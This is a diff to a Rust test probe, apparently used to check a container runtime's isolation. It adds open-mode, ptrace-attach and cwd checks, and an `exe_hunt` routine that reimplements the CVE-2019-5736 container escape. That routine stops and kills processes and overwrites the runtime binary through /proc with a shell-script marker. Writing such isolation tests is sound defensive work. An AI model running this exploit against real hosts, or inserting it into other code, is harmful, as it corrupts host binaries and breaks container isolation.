@@ -6,6 +6,8 @@
 //! object, several print an array in order. Operations:
 //!   report | read PATH | write PATH [DATA] | stat PATH | ls PATH
 //!   exit N | sleep SECONDS | sleep-forever
+//!   open PATH MODE (MODE: r, w, rw or path) | ptrace PID | cwd
+//!   exe-hunt DIR (see `exe_hunt`: the CVE-2019-5736 attacker)
 //! Failures are reported as `{"ok":false,"errno":N,"error":"..."}`; the probe
 //! never panics on a missing file. In `rlimits`, `null` means unlimited.
 //! `sleep-forever` exits with 128+N on SIGTERM, SIGINT, SIGHUP, SIGUSR1 and
@@ -72,6 +74,10 @@ fn run_op(op: &[String]) -> Value {
             json!({"ok": true})
         }
         "sleep-forever" => sleep_forever(),
+        "open" => open_mode(arg(1), arg(2)),
+        "ptrace" => ptrace_attach(arg(1).parse().unwrap_or(0)),
+        "cwd" => cwd(),
+        "exe-hunt" => exe_hunt(std::path::Path::new(arg(1))),
         other => json!({"ok": false, "errno": 0, "error": format!("unknown operation: {other}")}),
     }
 }
@@ -143,6 +149,244 @@ fn list_dir(path: &str) -> Value {
             json!({"ok": true, "entries": names})
         }
         Err(e) => io_error(&e),
+    }
+}
+
+fn open_flags(mode: &str) -> libc::c_int {
+    match mode {
+        "w" => libc::O_WRONLY,
+        "rw" => libc::O_RDWR,
+        "path" => libc::O_PATH,
+        _ => libc::O_RDONLY,
+    }
+}
+
+/// open(2) with O_WRONLY, O_RDWR, O_PATH or O_RDONLY; the fd is closed again.
+fn open_mode(path: &str, mode: &str) -> Value {
+    let Ok(c_path) = std::ffi::CString::new(path) else {
+        return json!({"ok": false, "errno": libc::EINVAL, "error": "NUL in path"});
+    };
+    // SAFETY: a valid C string; the fd returned is closed below.
+    let fd = unsafe { libc::open(c_path.as_ptr(), open_flags(mode) | libc::O_CLOEXEC) };
+    if fd < 0 {
+        return io_error(&std::io::Error::last_os_error());
+    }
+    // SAFETY: fd is ours.
+    unsafe { libc::close(fd) };
+    json!({"ok": true})
+}
+
+/// PTRACE_ATTACH to PID (detached again at once when it works).
+fn ptrace_attach(pid: i32) -> Value {
+    // SAFETY: ptrace with integer arguments and null pointers.
+    let rc = unsafe {
+        libc::ptrace(
+            libc::PTRACE_ATTACH,
+            pid,
+            std::ptr::null_mut::<libc::c_void>(),
+            std::ptr::null_mut::<libc::c_void>(),
+        )
+    };
+    if rc != 0 {
+        return io_error(&std::io::Error::last_os_error());
+    }
+    // SAFETY: as above; waitpid on the tracee we just attached.
+    unsafe {
+        libc::waitpid(pid, std::ptr::null_mut(), libc::__WALL);
+        libc::ptrace(
+            libc::PTRACE_DETACH,
+            pid,
+            std::ptr::null_mut::<libc::c_void>(),
+            std::ptr::null_mut::<libc::c_void>(),
+        );
+    }
+    json!({"ok": true})
+}
+
+/// The raw getcwd(2) text ("(unreachable)/..." when the cwd is outside the
+/// root) and whether that path names the same inode as ".".
+fn cwd() -> Value {
+    let mut buf = vec![0u8; 4096];
+    // SAFETY: the raw syscall fills at most buf.len() bytes.
+    let n = unsafe { libc::syscall(libc::SYS_getcwd, buf.as_mut_ptr(), buf.len()) };
+    if n < 0 {
+        return io_error(&std::io::Error::last_os_error());
+    }
+    let text = CStr::from_bytes_until_nul(&buf)
+        .map(|c| c.to_string_lossy().into_owned())
+        .unwrap_or_default();
+    let dot = std::fs::metadata(".").map(|m| (m.dev(), m.ino())).ok();
+    let named = std::fs::metadata(&text).map(|m| (m.dev(), m.ino())).ok();
+    let entries = list_dir(".")["entries"].clone();
+    json!({"ok": true, "cwd": text, "same_inode": dot.is_some() && dot == named, "entries": entries})
+}
+
+/// The CVE-2019-5736 attacker. Writes DIR/ready, then until DIR/stop exists
+/// scans /proc for processes whose exe is not the probe's own (a runtime
+/// process, or the runtime binary run through `#!/proc/self/exe`). Each one
+/// is stopped (SIGSTOP) when possible, its exe is opened for writing
+/// (O_WRONLY, O_RDWR) and O_PATH; the process is then killed and the O_PATH
+/// fd reopened for writing through /proc/self/fd, again and again, as the
+/// real exploit does once the binary no longer runs. Any open for writing
+/// that works writes a marker at offset 0 (`written` lists the writes
+/// that happened). After DIR/stop, one last reopen
+/// of every held fd; prints what it saw and got, and writes it to DIR/report.
+fn exe_hunt(dir: &std::path::Path) -> Value {
+    let own_pid = std::process::id() as i32;
+    let own_exe = std::fs::read_link("/proc/self/exe").unwrap_or_default();
+    let mut seen: Vec<Value> = Vec::new();
+    let mut seen_pids: Vec<i32> = Vec::new();
+    let mut denied: Map<String, Value> = Map::new();
+    let mut held: Vec<libc::c_int> = Vec::new();
+    let mut written: Vec<String> = Vec::new();
+    let mut note_errno = |what: &str, e: i32| {
+        let key = format!("{what}:{e}");
+        let n = denied.get(&key).and_then(Value::as_u64).unwrap_or(0);
+        denied.insert(key, json!(n + 1));
+    };
+    let _ = std::fs::write(dir.join("ready"), "1");
+    let mut rounds: u64 = 0;
+    while !dir.join("stop").exists() {
+        rounds += 1;
+        let Ok(rd) = std::fs::read_dir("/proc") else {
+            break;
+        };
+        for entry in rd.filter_map(|e| e.ok()) {
+            let Some(pid) = entry
+                .file_name()
+                .to_str()
+                .and_then(|n| n.parse::<i32>().ok())
+            else {
+                continue;
+            };
+            if pid == own_pid {
+                continue;
+            }
+            let exe_path = format!("/proc/{pid}/exe");
+            let c_exe = std::ffi::CString::new(exe_path.clone()).unwrap();
+            // Only processes whose exe can be read (dumpable, same
+            // credentials) are worth stopping: the others deny the open too.
+            let target = match std::fs::read_link(&exe_path) {
+                Ok(t) if t == own_exe => continue,
+                Ok(t) => t,
+                Err(e) => {
+                    note_errno("readlink", e.raw_os_error().unwrap_or(0));
+                    continue;
+                }
+            };
+            // Stop it: the window while the runtime binary runs is short.
+            // (Signals from inside do not reach the namespace's init.)
+            let stopped = pid != 1
+                // SAFETY: kill with integer arguments.
+                && unsafe { libc::kill(pid, libc::SIGSTOP) } == 0;
+            if !seen_pids.contains(&pid) && seen_pids.len() < 64 {
+                seen_pids.push(pid);
+                seen.push(json!({
+                    "pid": pid,
+                    "exe": target.to_string_lossy(),
+                    "stopped": stopped,
+                }));
+            }
+            for (what, flags) in [("wronly", libc::O_WRONLY), ("rdwr", libc::O_RDWR)] {
+                // SAFETY: a valid C string; a returned fd is used then closed.
+                let fd = unsafe { libc::open(c_exe.as_ptr(), flags | libc::O_CLOEXEC) };
+                if fd >= 0 {
+                    match mark(fd) {
+                        Ok(n) => written.push(format!("{exe_path} ({what}): wrote {n} bytes")),
+                        Err(e) => note_errno("write", e),
+                    }
+                    // SAFETY: fd is ours.
+                    unsafe { libc::close(fd) };
+                } else {
+                    note_errno(
+                        what,
+                        std::io::Error::last_os_error().raw_os_error().unwrap_or(0),
+                    );
+                }
+            }
+            if held.len() < 64 {
+                // SAFETY: a valid C string.
+                let fd = unsafe { libc::open(c_exe.as_ptr(), libc::O_PATH | libc::O_CLOEXEC) };
+                if fd >= 0 {
+                    held.push(fd);
+                } else {
+                    note_errno(
+                        "path",
+                        std::io::Error::last_os_error().raw_os_error().unwrap_or(0),
+                    );
+                }
+            }
+            if stopped {
+                // SAFETY: kill with integer arguments.
+                unsafe { libc::kill(pid, libc::SIGKILL) };
+            }
+        }
+        // The real exploit: once the binary stops running, reopen for writing.
+        for fd in &held {
+            let c_fd = std::ffi::CString::new(format!("/proc/self/fd/{fd}")).unwrap();
+            // SAFETY: a valid C string.
+            let w = unsafe { libc::open(c_fd.as_ptr(), libc::O_WRONLY | libc::O_CLOEXEC) };
+            if w >= 0 {
+                match mark(w) {
+                    Ok(n) => written.push(format!("/proc/self/fd/{fd} (reopen): wrote {n} bytes")),
+                    Err(e) => note_errno("reopen-write", e),
+                }
+                // SAFETY: w is ours.
+                unsafe { libc::close(w) };
+            } else if rounds % 1024 == 0 {
+                note_errno(
+                    "reopen",
+                    std::io::Error::last_os_error().raw_os_error().unwrap_or(0),
+                );
+            }
+        }
+        if written.len() > 8 {
+            break;
+        }
+    }
+    // The runtime's commands have all returned by now: the binary runs
+    // nowhere, which is when the real exploit's reopen works.
+    for fd in &held {
+        let c_fd = std::ffi::CString::new(format!("/proc/self/fd/{fd}")).unwrap();
+        // SAFETY: a valid C string.
+        let w = unsafe { libc::open(c_fd.as_ptr(), libc::O_WRONLY | libc::O_CLOEXEC) };
+        if w >= 0 {
+            match mark(w) {
+                Ok(n) => written.push(format!(
+                    "/proc/self/fd/{fd} (final reopen): wrote {n} bytes"
+                )),
+                Err(e) => note_errno("final-write", e),
+            }
+            // SAFETY: w is ours.
+            unsafe { libc::close(w) };
+        } else {
+            note_errno(
+                "final-reopen",
+                std::io::Error::last_os_error().raw_os_error().unwrap_or(0),
+            );
+        }
+    }
+    for fd in held {
+        // SAFETY: fds this function opened.
+        unsafe { libc::close(fd) };
+    }
+    let report =
+        json!({"ok": true, "rounds": rounds, "seen": seen, "denied": denied, "written": written});
+    let _ = std::fs::write(dir.join("report"), report.to_string());
+    report
+}
+
+/// Write a marker at offset 0 of an fd opened for writing.
+/// A sealed copy opens for writing but refuses the write: only a write that
+/// happened counts. Returns the bytes written or the errno.
+fn mark(fd: libc::c_int) -> Result<isize, i32> {
+    let marker = b"#!/bin/sh\necho overwritten by a container\n";
+    // SAFETY: the buffer is valid for its length.
+    let n = unsafe { libc::pwrite(fd, marker.as_ptr().cast(), marker.len(), 0) };
+    if n < 0 {
+        Err(std::io::Error::last_os_error().raw_os_error().unwrap_or(0))
+    } else {
+        Ok(n)
     }
 }
 
